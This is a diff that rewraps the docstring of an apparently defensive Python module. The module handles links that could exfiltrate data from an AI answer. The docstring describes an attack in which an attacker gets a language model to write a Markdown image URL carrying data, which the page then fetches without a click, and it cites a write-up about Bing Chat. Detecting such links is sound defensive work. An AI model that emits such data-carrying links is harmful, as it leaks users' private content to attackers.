@@ -1,7 +1,7 @@
 """Links by which an answer could exfiltrate data: images, which load by themselves, and payloads.
 
-A page that renders Markdown fetches `![](https://host/?q=…)` without a click; an attacker who makes a model write
-one gets its contents: https://embracethered.com/blog/posts/2023/bing-chat-data-exfiltration-poc-and-fix/
+A page that renders Markdown fetches `![](https://host/?q=…)` without a click; an attacker who makes a model
+write one gets its contents: https://embracethered.com/blog/posts/2023/bing-chat-data-exfiltration-poc-and-fix/
 """
 
 import html
